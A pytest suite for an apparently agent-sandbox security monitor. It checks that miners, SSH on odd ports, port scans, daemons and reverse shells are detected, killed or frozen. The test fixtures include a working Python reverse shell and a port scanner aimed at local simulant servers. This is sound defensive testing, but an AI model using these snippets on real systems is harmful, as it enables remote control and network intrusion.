"""The live runtime end to end: real sandboxes, sensors, detectors and responses."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from watchkeeper.alerts import Severity
from watchkeeper.errors import PolicyError
from watchkeeper.respond import Policy
from watchkeeper.runtime import Sandbox
from watchkeeper.sensors._proc_loss import SensorLoss
from watchkeeper.store import DuckReader
from watchkeeper.testing.simulants import SinkServer, SshBannerServer, StratumPool

pytestmark = pytest.mark.root

ALERT_ONLY = Policy.loads(
    "version: 1\ndefaults: {critical: alert, high: alert, medium: alert, low: alert}\n", "<test>"
)


def _miner(workdir: Path, host: str, port: int, cpu: float = 5.0) -> list[str]:
    return ["python3", str(workdir / "systemd-helper"), "miner", "--host", host,
            "--port", str(port), "--cpu-seconds", str(cpu)]  # fmt: skip


def test_renamed_miner_is_killed_and_attributed(
    live: None, workdir: Path, tmp_path: Path, new_id: Callable[..., str]
) -> None:
    out = tmp_path / "out"
    with Sandbox(allow=["host:443/tcp"], workdir=workdir, out_dir=out, sandbox_id=new_id("m")) as sb:
        with StratumPool(sb.host_addr, 443, max_seconds=20):
            # lives a moment so that its command line is read (a shorter one may be "[sh]")
            first = sb.exec("true; sleep 0.2", step_id=0, tool_call_id="call-0")
            assert first.ok and first.alerts == ()
            result = sb.exec(_miner(workdir, sb.host_addr, 443), step_id=1,
                             tool_call_id="call-1", timeout=15)  # fmt: skip
            assert result.exit_code == 137 and result.killed
            assert result.duration_s < 4.0  # it would burn CPU for 5 s
            ids = {a.rule_id for a in result.alerts}
            assert "detector:stratum" in ids
            for alert in result.alerts:
                assert (alert.step, alert.tool_call_id, alert.sandbox_id) == (1, "call-1", sb.sandbox_id)
            assert any(a.action == "kill" for a in result.alerts)
            assert sb.box.pids() == []
            denied = sb.exec("echo again", step_id=2)
            assert denied.denied and denied.exit_code == 126 and "stratum" in denied.denied.lower()
    # alerts.jsonl: one JSON object per alert with the fields the CLI documents
    lines = [json.loads(x) for x in (out / "alerts.jsonl").read_text().splitlines()]
    stratum = next(x for x in lines if x["rule_id"] == "detector:stratum")
    for key in ("rule_id", "title", "severity", "attack", "action", "ts", "pid", "exe", "cmdline",
                "destination", "step", "tool_call_id", "sandbox_id", "confidence", "evidence"):
        assert key in stratum
    assert stratum["action"] == "kill" and stratum["step"] == 1 and stratum["severity"] == "critical"
    assert "systemd-helper" in stratum["cmdline"] and stratum["destination"].endswith(":443")
    assert "T1496" in stratum["attack"]
    # events.duckdb: the miner's own exec is attributed to its step (registered before it ran)
    with DuckReader(out) as db:
        _, rows = db.sql("SELECT step, tool_call_id, command_line FROM events "
                         "WHERE category = 'process_creation' AND activity = 'launch'")
        assert any(r[0] == 1 and r[1] == "call-1" and "systemd-helper" in r[2] for r in rows)
        assert any(r[0] == 0 and r[2] == "/bin/sh -c true; sleep 0.2" for r in rows)
        assert not any("execserver" in r[2] or "wk-enter" in r[2] for r in rows)  # plumbing
        _, rows = db.sql("SELECT rule_id, step, action FROM alerts WHERE rule_id = 'detector:stratum'")
        assert rows == [("detector:stratum", 1, "kill")]
        _, steps = db.sql("SELECT step, tool_call_id, exit_code FROM steps ORDER BY step")
        assert steps[:2] == [(0, "call-0", 0), (1, "call-1", 137)]


def test_ssh_banner_on_port_80_alerts(live: None, workdir: Path, new_id: Callable[..., str]) -> None:
    with Sandbox(allow=["host:80/tcp"], workdir=workdir, sandbox_id=new_id("s")) as sb:
        with SshBannerServer(sb.host_addr, 80, max_seconds=20):
            result = sb.exec(["python3", str(workdir / "systemd-helper"), "ssh-client",
                              "--host", sb.host_addr, "--port", "80"], step_id=4, timeout=10)  # fmt: skip
    ssh = [a for a in result.alerts if a.rule_id == "detector:ssh"]
    assert ssh and ssh[0].step == 4 and ssh[0].severity >= Severity.HIGH
    assert "T1571" in ssh[0].attack  # SSH on a port that is not 22


def test_python_port_scanner_is_a_fanout(live: None, workdir: Path, new_id: Callable[..., str]) -> None:
    scanner = (
        "import socket, sys\n"
        "for port in range(20100, 20140):\n"
        "    s = socket.socket(); s.settimeout(0.2)\n"
        "    s.connect_ex((sys.argv[1], port)); s.close()\n"
    )
    with Sandbox(allow=["host"], workdir=workdir, policy=ALERT_ONLY, sandbox_id=new_id("f")) as sb:
        result = sb.exec(["python3", "-c", scanner, sb.host_addr], step_id=2, timeout=10)
        sb.flush()
        alerts = [a for a in sb.alerts() if a.rule_id == "detector:fanout-portscan"]
    assert alerts and alerts[0].step == 2 and "T1046" in alerts[0].attack, (alerts, result)
    assert result.exit_code == 0


def test_double_forked_daemon_stays_on_its_step(
    live: None, workdir: Path, new_id: Callable[..., str]
) -> None:
    daemon = (
        "import os, socket, sys, time\n"
        "if os.fork(): sys.exit(0)\n"
        "os.setsid()\n"
        "if os.fork(): os._exit(0)\n"
        "time.sleep(1.0)\n"
        "s = socket.create_connection((sys.argv[1], 2222), timeout=5)\n"
        "s.sendall(b'SSH-2.0-OpenSSH_9.2p1\\r\\n'); s.recv(100); time.sleep(2.0)\n"
    )
    with Sandbox(allow=["host:2222/tcp"], workdir=workdir, policy=ALERT_ONLY,
                 sandbox_id=new_id("d")) as sb, SshBannerServer(sb.host_addr, 2222, max_seconds=20):  # fmt: skip
        first = sb.exec(["python3", "-c", daemon, sb.host_addr], step_id=1, tool_call_id="start")
        assert first.exit_code == 0 and first.duration_s < 1.0  # the daemon outlives the call
        second = sb.exec("sleep 2", step_id=2, tool_call_id="wait")
        sb.flush()
        alerts = [a for a in sb.alerts() if a.rule_id == "detector:ssh"]
        assert alerts, sb.alerts()
        assert (alerts[0].step, alerts[0].tool_call_id) == (1, "start")
        assert not any(a.rule_id == "detector:ssh" for a in second.alerts)
        pid = alerts[0].evidence[0].event.pid
        assert pid is not None and pid in sb.box.pids()  # the daemon itself, still running


def test_benign_steps_raise_nothing_medium_or_above(
    live: None, workdir: Path, new_id: Callable[..., str]
) -> None:
    project = workdir / "proj"
    project.mkdir()
    (project / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    (project / "test_calc.py").write_text("from calc import add\n\ndef test_add():\n    assert add(2, 3) == 5\n")
    python = str(Path(__import__("sys").executable))
    with Sandbox(workdir=workdir, sandbox_id=new_id("b")) as sb:
        results = [
            sb.exec(["python3", "-c", "print('hello')"]),
            sb.exec("ls -la && cat calc.py", cwd=str(project)),
            sb.exec([python, "-m", "pytest", "-q", "-p", "no:cacheprovider", str(project)],
                    cwd=str(project), timeout=60),  # fmt: skip
        ]
        sb.flush()
        noisy = [a for a in sb.alerts() if a.severity >= Severity.MEDIUM]
    assert [r.exit_code for r in results] == [0, 0, 0], [r.stderr for r in results]
    assert "hello" in results[0].stdout and "1 passed" in results[2].stdout
    assert noisy == []


def test_denied_egress_is_an_event(
    live: None, workdir: Path, tmp_path: Path, new_id: Callable[..., str]
) -> None:
    out = tmp_path / "out"
    code = "import socket, sys\ntry:\n    socket.create_connection((sys.argv[1], 9), timeout=2)\nexcept OSError as e:\n    print(e)\n"
    with Sandbox(allow=["host:443/tcp"], workdir=workdir, out_dir=out, sandbox_id=new_id("n")) as sb:
        result = sb.exec(["python3", "-c", code, sb.host_addr], step_id=0)
        assert "refused" in result.stdout.lower()
        host = sb.host_addr
    with DuckReader(out) as db:
        _, rows = db.sql("SELECT source, dst_ip, dst_port, step FROM events "
                         "WHERE category = 'network_connection' AND activity = 'deny'")
    assert ("nflog", host, 9, 0) in rows


def test_monitor_failure_freezes_the_sandbox(
    live: None, workdir: Path, new_id: Callable[..., str]
) -> None:
    policy = Policy.loads("version: 1\nfail_mode: freeze\nheartbeat_timeout_ms: 500\n", "<test>")
    with Sandbox(workdir=workdir, policy=policy, sandbox_id=new_id("w")) as sb:
        monitor = sb.monitor
        assert monitor is not None
        monitor._nets[sb.sandbox_id].stop()  # the network sensor dies
        deadline = time.monotonic() + 3
        while sb.contained != "freeze" and time.monotonic() < deadline:
            time.sleep(0.02)
        failed = [a for a in sb.alerts() if a.rule_id == "watchkeeper:sensor-failed"]
        assert failed and failed[0].action == "freeze" and failed[0].severity is Severity.CRITICAL
        denied = sb.exec("echo hi")
        assert denied.denied and "frozen" in denied.denied


def test_policy_file_error_names_line_and_field(tmp_path: Path) -> None:
    bad = tmp_path / "policy.yml"
    bad.write_text("version: 1\ndefaults:\n  high: explode\n")
    with pytest.raises(PolicyError) as info:
        Sandbox(policy=bad)
    assert info.value.location is not None
    assert info.value.location.line == 3 and info.value.location.field == "defaults.high"
    assert str(bad) in str(info.value)


def test_reverse_shell_ends_the_episode(live: None, workdir: Path, new_id: Callable[..., str]) -> None:
    shell = (
        "import os, socket, sys\n"
        "s = socket.create_connection((sys.argv[1], 4444), timeout=5)\n"
        "for fd in (0, 1, 2):\n"
        "    os.dup2(s.fileno(), fd)\n"
        "os.execvp('sh', ['sh', '-c', 'sleep 5'])\n"
    )
    with Sandbox(allow=["host:4444/tcp"], workdir=workdir, sandbox_id=new_id("r")) as sb, \
            SinkServer(sb.host_addr, 4444, max_seconds=20):  # fmt: skip
        (workdir / "sync.py").write_text(shell)  # an innocent command line: caught by behaviour
        result = sb.exec(["python3", "sync.py", sb.host_addr], step_id=3, timeout=10)
        assert result.killed and result.exit_code == 137 and result.duration_s < 4
        revshell = [a for a in result.alerts if a.rule_id == "detector:revshell"]
        assert revshell and revshell[0].action == "end_episode" and revshell[0].step == 3
        later = sb.exec("echo hi")
        assert later.denied and "episode was ended" in later.denied and later.exit_code == 126


def test_sensor_loss_becomes_an_alert(live: None, workdir: Path, new_id: Callable[..., str]) -> None:
    with Sandbox(workdir=workdir, sandbox_id=new_id("l")) as sb:
        assert sb.monitor is not None
        loss = SensorLoss("net", time.time(), 3, 3, "packets dropped by the kernel")
        sb.monitor.dispatcher.put_loss(loss, sb.sandbox_id)
        sb.flush()
        alerts = [a for a in sb.alerts() if a.rule_id == "watchkeeper:sensor-loss"]
    assert alerts and alerts[0].severity is Severity.MEDIUM and alerts[0].action == "alert"
    assert "dropped" in alerts[0].title
